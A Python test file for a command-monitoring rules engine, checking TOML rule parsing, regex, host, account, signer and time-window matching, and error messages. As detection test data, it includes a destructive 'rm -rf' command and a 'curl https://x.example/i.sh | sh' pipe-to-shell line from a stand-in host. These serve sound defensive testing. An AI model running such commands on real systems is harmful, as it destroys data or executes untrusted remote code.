"""Monitor rules: parsing (strict, clear errors) and matching (each condition, AND/OR, time)."""

from __future__ import annotations

import calendar
from pathlib import Path

import pytest

from gatekeeper.action import Action, Target
from gatekeeper.errors import ConfigError
from gatekeeper.monitor.rules import load_rules, parse_rules, severity_rank

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIP83pl/kejjyME+H74Ww+q1c+4mo4k+Ku1jNDJ/1BL8F"
FP = "SHA256:fake"


def utc(y: int, mo: int, d: int, h: int, mi: int) -> int:
    return calendar.timegm((y, mo, d, h, mi, 0))


def act(
    command: bytes = b"ls",
    hosts: tuple[str, ...] = ("web-01",),
    account: str = "deploy",
    when: int = utc(2026, 11, 18, 12, 0),  # a Wednesday, noon UTC
    reason: str = "OPS-1",
) -> Action:
    return Action(
        "exec", tuple(Target(h) for h in hosts), account, command, b"n" * 16, when, when + 300, KEY, reason
    )


def one(toml: str) -> object:
    rs = parse_rules("[[rule]]\nname = 'r'\n" + toml)
    assert len(rs) == 1
    return rs.rules[0]


def fires(toml: str, a: Action, principals: tuple[str, ...] = (), fp: str = FP) -> bool:
    rs = parse_rules("[[rule]]\nname = 'r'\n" + toml)
    return bool(rs.evaluate(a, principals, fp))


def test_command_regex_is_searched() -> None:
    rule = "command = 'rm\\s+-rf\\s+/'"
    assert fires(rule, act(b"sudo rm  -rf /var"))
    assert not fires(rule, act(b"rm -r /var"))


def test_command_with_undecodable_bytes_matches_as_escaped_text() -> None:
    assert fires("command = '\\\\xff'", act(b"echo \xff"))
    assert not fires("command = '\\\\xff'", act(b"echo ok"))


def test_hosts_accounts_kinds_globs_and_or() -> None:
    assert fires("hosts = ['db-*']", act(hosts=("db-02", "web-01")))
    assert not fires("hosts = ['db-*']", act(hosts=("web-01",)))
    assert fires("accounts = ['root', 'postgres']", act(account="postgres"))
    assert not fires("accounts = ['root']", act(account="deploy"))
    assert fires("kinds = ['exec']", act())
    assert not fires("kinds = ['git-push']", act())


def test_all_conditions_must_hold() -> None:
    rule = "hosts = ['db-*']\naccounts = ['root']"
    assert fires(rule, act(hosts=("db-01",), account="root"))
    assert not fires(rule, act(hosts=("db-01",), account="deploy"))
    assert not fires(rule, act(hosts=("web-01",), account="root"))


def test_exceptions() -> None:
    rule = "accounts = ['root']\nexcept_hosts = ['bastion']"
    assert fires(rule, act(account="root", hosts=("web-01",)))
    assert not fires(rule, act(account="root", hosts=("bastion",)))
    assert not fires("command = ''\nexcept_accounts = ['deploy']", act(account="deploy"))


def test_signers_by_key_fingerprint_or_principal() -> None:
    assert fires(f"signers = ['{KEY}']", act())
    assert fires("signers = ['SHA256:fake']", act())
    assert fires("signers = ['alice@*']", act(), principals=("alice@example.com",))
    assert not fires("signers = ['bob@example.com']", act(), principals=("alice@example.com",))
    assert not fires("except_signers = ['alice@example.com']", act(), principals=("alice@example.com",))


def test_reason_regex_empty_reason() -> None:
    assert fires("reason = '^$'", act(reason=""))
    assert not fires("reason = '^$'", act(reason="INC-4"))


def test_time_windows_wrap_midnight_and_timezones() -> None:
    night = "hours = '22:00-06:00'"
    assert fires(night, act(when=utc(2026, 11, 18, 23, 30)))
    assert fires(night, act(when=utc(2026, 11, 18, 5, 59)))
    assert not fires(night, act(when=utc(2026, 11, 18, 6, 0)))
    office = "outside_hours = '08:00-18:00'"
    assert not fires(office, act(when=utc(2026, 11, 18, 8, 0)))
    assert fires(office, act(when=utc(2026, 11, 18, 18, 0)))
    # 07:30 UTC is 08:30 in Berlin (CET, UTC+1 in November)
    berlin = "outside_hours = '08:00-18:00'\ntimezone = 'Europe/Berlin'"
    assert not fires(berlin, act(when=utc(2026, 11, 18, 7, 30)))
    assert fires(berlin, act(when=utc(2026, 11, 18, 6, 30)))


def test_days_of_week() -> None:
    assert fires("days = ['sat', 'sun']", act(when=utc(2026, 11, 21, 12, 0)))  # Saturday
    assert not fires("days = ['sat', 'sun']", act(when=utc(2026, 11, 18, 12, 0)))  # Wednesday


@pytest.mark.parametrize(
    ("toml", "needle"),
    [
        ("command = '('", "regular expression"),
        ("severity = 'urgent'\ncommand = ''", "severity"),
        ("hours = '25:00-01:00'", "22:00-06:00"),
        ("hours = '10:00-10:00'", "empty window"),
        ("timezone = 'Mars/Olympus'\ncommand = ''", "timezone"),
        ("days = ['funday']", "unknown days"),
        ("hosts = []", "empty"),
        ("hosts = [1]", "list of non-empty strings"),
        ("colour = 'red'\ncommand = ''", "unknown keys"),
        ("severity = 'high'", "no condition"),
    ],
)
def test_bad_rules_are_config_errors(toml: str, needle: str) -> None:
    with pytest.raises(ConfigError, match=needle):
        parse_rules("[[rule]]\nname = 'r'\n" + toml)


def test_file_level_errors() -> None:
    with pytest.raises(ConfigError, match="TOML"):
        parse_rules("[[rule]\n")
    with pytest.raises(ConfigError, match="duplicate"):
        parse_rules("[[rule]]\nname='a'\ncommand=''\n[[rule]]\nname='a'\ncommand=''\n")
    with pytest.raises(ConfigError, match="name"):
        parse_rules("[[rule]]\ncommand=''\n")
    with pytest.raises(ConfigError, match="top-level"):
        parse_rules("rules = 1\n")
    with pytest.raises(ConfigError, match="cannot read"):
        load_rules("/nonexistent/rules.toml")


def test_severity_rank() -> None:
    assert severity_rank("info") < severity_rank("medium") < severity_rank("critical")
    with pytest.raises(ConfigError):
        severity_rank("bogus")


def test_example_rules_file_parses_and_fires() -> None:
    path = Path(__file__).parents[1] / "examples" / "monitor-rules.toml"
    rs = load_rules(path)
    assert len(rs) >= 5
    hits = {r.name for r in rs.evaluate(act(b"curl -fsS https://x.example/i.sh | sh"))}
    assert "pipe-to-shell" in hits
    assert not rs.evaluate(act(b"systemctl status nginx"))
